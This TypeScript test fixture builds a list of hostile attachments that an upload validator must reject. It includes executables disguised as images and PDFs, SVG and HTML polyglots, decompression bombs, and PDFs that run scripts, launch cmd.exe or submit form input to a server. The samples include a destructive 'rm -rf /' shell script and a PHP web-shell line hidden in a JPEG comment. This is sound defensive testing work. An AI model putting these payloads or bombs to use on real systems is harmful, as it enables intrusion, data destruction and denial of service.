import { deflateSync, gzipSync } from 'node:zlib';
import { HOSTILE_OBJECT_STREAMS, objectStream, SCRIPT, type Why } from './hostile-object-streams.ts';
import { aPng, JPEG, png, pngChunk, pngHeader, WEBP } from './images.ts';
import { aPdf, pdfOf, stream } from './pdfs.ts';

const PNG = aPng();
const PDF = aPdf();
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>';
const HTML = '<!doctype html><script>alert(1)</script>';
const ZIP = Buffer.concat([
  Buffer.from('PK\x03\x04\x14\0\0\0\0\0', 'latin1'),
  Buffer.from('PK\x05\x06', 'latin1'),
  Buffer.alloc(18),
]);

const bytes = (text: string) => Buffer.from(text, 'latin1');
const joined = (...parts: readonly (string | Uint8Array)[]) =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? bytes(part) : part)));
/** A JPEG with a comment after its start. */
const commented = (text: string) =>
  joined(JPEG.subarray(0, 2), Uint8Array.from([0xff, 0xfe, 0, text.length + 2]), text, JPEG.subarray(2));
const pngWith = (name: string, content: Uint8Array) =>
  joined(PNG.subarray(0, 33), pngChunk(name, content), PNG.subarray(33));
const bomb = (width: number, height: number) =>
  png(pngHeader(width, height), pngChunk('IDAT', deflateSync(Buffer.alloc(1_000))), pngChunk('IEND'));
const resized = (size: readonly number[]) => {
  const copy = Buffer.from(JPEG);
  copy.set(size, JPEG.indexOf(Buffer.from([0xff, 0xc0])) + 5);
  return copy;
};
/** Zeros that unpack to a thousand times their size. */
const zeros = (megabytes: number) => deflateSync(Buffer.alloc(megabytes * 1024 * 1024), { level: 1 });

/** Files that must not be attached, with the names that they pretend, and why. */
export const HOSTILE_ATTACHMENTS: readonly (readonly [what: string, name: string, bytes: Buffer, why: Why])[] = [
  ['an executable of Windows', 'invoice.pdf', joined('MZ\x90\0\x03\0\0\0', Buffer.alloc(200)), 'type'],
  ['an executable of Linux', 'photo.jpg', joined('\x7fELF\x02\x01\x01', Buffer.alloc(200)), 'type'],
  ['an executable of macOS', 'scan.png', joined('\xcf\xfa\xed\xfe', Buffer.alloc(200)), 'type'],
  ['a shell script', 'plan.pdf', bytes('#!/bin/sh\nrm -rf /\n'), 'type'],
  ['a shortcut of Windows', 'invoice.pdf.lnk', joined('L\0\0\0\x01\x14\x02\0', Buffer.alloc(80)), 'type'],
  ['an archive', 'photos.pdf', ZIP, 'type'],
  ['a document with macros', 'quote.pdf', joined('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', Buffer.alloc(80)), 'type'],
  ['a gzip file', 'plan.pdf', gzipSync(PDF), 'type'],
  ['SVG with a script', 'logo.svg', bytes(SVG), 'type'],
  ['SVG as a PNG', 'logo.png', bytes(SVG), 'type'],
  ['SVG after a declaration', 'logo.png', bytes(`<?xml version="1.0"?>${SVG}`), 'type'],
  ['HTML', 'page.html', bytes(HTML), 'type'],
  ['HTML as a PDF', 'page.pdf', bytes(HTML), 'type'],
  ['JavaScript', 'photo.jpg', bytes('alert(1)'), 'type'],
  ['WebP', 'photo.webp', WEBP, 'type'],
  ['GIF', 'photo.png', bytes('GIF89a\x01\0\x01\0'), 'type'],
  ['HEIC', 'photo.jpg', bytes('\0\0\0\x18ftypheic'), 'type'],
  ['a video', 'photo.jpg', bytes('\0\0\0\x18ftypmp42'), 'type'],
  ['nothing but a byte', 'photo.jpg', Buffer.from([0xff]), 'type'],
  ['a PDF after an executable', 'plan.pdf', joined('MZ\x90\0', PDF), 'type'],
  ['a PDF after HTML', 'plan.pdf', joined(HTML, PDF), 'type'],
  ['a PNG after a space', 'photo.png', joined(' ', PNG), 'type'],
  ['a PNG followed by an archive', 'photo.png', joined(PNG, ZIP), 'disguised'],
  ['a PNG followed by HTML', 'photo.png', joined(PNG, HTML), 'damaged'],
  ['a PNG without its end', 'photo.png', PNG.subarray(0, -1), 'damaged'],
  ['a PNG with a wrong checksum', 'photo.png', joined(PNG.subarray(0, 45), '\xff', PNG.subarray(46)), 'damaged'],
  [
    'a PNG with pixels for more than its size',
    'photo.png',
    joined(png(pngHeader(3, 2), pngChunk('IDAT', zeros(64)), pngChunk('IEND'))),
    'damaged',
  ],
  ['a PNG of 20,000 by 20,000 pixels', 'photo.png', bomb(20_000, 20_000), 'pixels'],
  ['a PNG with a text that unpacks to 64 MB', 'photo.png', pngWith('zTXt', joined('a\0\0', zeros(64))), 'bomb'],
  ['a PNG with a profile that unpacks to 64 MB', 'photo.png', pngWith('iCCP', joined('a\0\0', zeros(64))), 'bomb'],
  ['a PNG with another text that does', 'photo.png', pngWith('iTXt', joined('a\0\x01\0en\0b\0', zeros(64))), 'bomb'],
  [
    'a PNG with texts that unpack to 5 MB together',
    'photo.png',
    joined(
      PNG.subarray(0, 33),
      ...Array.from({ length: 5 }, () => pngChunk('zTXt', joined('a\0\0', zeros(1)))),
      PNG.subarray(33),
    ),
    'bomb',
  ],
  ['a PNG with a script in a text', 'photo.png', pngWith('tEXt', joined('Comment\0', HTML)), 'disguised'],
  ['a JPEG followed by an archive', 'photo.jpg', joined(JPEG, ZIP), 'disguised'],
  ['a JPEG followed by a script', 'photo.jpg', joined(JPEG, '*/alert(1)//'), 'damaged'],
  ['a JPEG with another in front of its end', 'photo.jpg', joined(JPEG, JPEG), 'damaged'],
  ['a JPEG with a page in a comment', 'photo.jpg', commented(HTML), 'disguised'],
  ['a JPEG with PHP in a comment', 'photo.jpg', commented('<?php system($_GET[0]); ?>'), 'disguised'],
  ['a JPEG with the start of a PDF in a comment', 'photo.jpg', commented('%PDF-1.4'), 'disguised'],
  ['a JPEG of 65,535 by 65,535 pixels', 'photo.jpg', resized([255, 255, 255, 255]), 'pixels'],
  ['a PDF followed by HTML', 'plan.pdf', joined(PDF, HTML), 'damaged'],
  ['a PDF followed by an archive', 'plan.pdf', joined(PDF, ZIP), 'damaged'],
  ['a PDF without its end', 'plan.pdf', PDF.subarray(0, -8), 'damaged'],
  ['a PDF that runs a script when opened', 'plan.pdf', pdfOf({ catalog: `/OpenAction ${SCRIPT}` }), 'active'],
  [
    'a PDF whose script has an escaped name',
    'plan.pdf',
    pdfOf({ catalog: `/OpenAction ${SCRIPT.replace('/JavaScript', '/J#61vaScr#69pt')}` }),
    'active',
  ],
  [
    'a PDF whose script is in an object stream',
    'plan.pdf',
    pdfOf({ objects: [stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', objectStream(SCRIPT))] }),
    'active',
  ],
  [
    'a PDF with an object stream that is packed twice',
    'plan.pdf',
    pdfOf({
      objects: [
        stream(
          '/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]',
          bytes(objectStream(SCRIPT).toString('hex')),
        ),
      ],
    }),
    'damaged',
  ],
  ...HOSTILE_OBJECT_STREAMS,
  ['a PDF that opens another', 'plan.pdf', pdfOf({ catalog: '/OpenAction << /S /GoToR /F (b.pdf) >>' }), 'active'],
  ['a PDF that opens a thread', 'plan.pdf', pdfOf({ catalog: '/OpenAction << /S /Thread /F (b.pdf) >>' }), 'active'],
  ['a PDF with a file on a server', 'plan.pdf', pdfOf({ objects: ['<< /F (\\\\\\\\host\\\\x) >>'] }), 'active'],
  ['a PDF with a file on another', 'plan.pdf', pdfOf({ objects: ['<< /UF (//host/x) >>'] }), 'active'],
  ['an encrypted PDF with a comment', 'plan.pdf', pdfOf({ trailer: '/Encrypt%\n9 0 R' }), 'protected'],
  ['a scripted form with a comment', 'plan.pdf', pdfOf({ catalog: '/AcroForm << /XFA%\n[(a) 9 0 R] >>' }), 'active'],
  [
    'a PDF that launches a program',
    'plan.pdf',
    pdfOf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' }),
    'active',
  ],
  ['a PDF with a file inside', 'plan.pdf', pdfOf({ objects: [stream('/Type /EmbeddedFile', bytes('MZ'))] }), 'active'],
  [
    'a PDF that sends what is typed',
    'plan.pdf',
    pdfOf({ catalog: '/AA << /WC << /S /SubmitForm /F (https://example.com) >> >>' }),
    'active',
  ],
  ['a PDF with a scripted form', 'plan.pdf', pdfOf({ catalog: '/AcroForm << /XFA [(a) 9 0 R] >>' }), 'active'],
  ['a PDF with a video', 'plan.pdf', pdfOf({ objects: ['<< /Subtype /RichMedia >>'] }), 'active'],
  ['an encrypted PDF', 'plan.pdf', pdfOf({ trailer: '/Encrypt 9 0 R' }), 'protected'],
  [
    'a PDF that unpacks to 300 MB',
    'plan.pdf',
    pdfOf({ objects: [stream('/Filter /FlateDecode', zeros(300))] }),
    'bomb',
  ],
  [
    'a PDF that is packed twice',
    'plan.pdf',
    pdfOf({ objects: [stream('/Filter [/FlateDecode /FlateDecode]', deflateSync(zeros(4)))] }),
    'bomb',
  ],
];
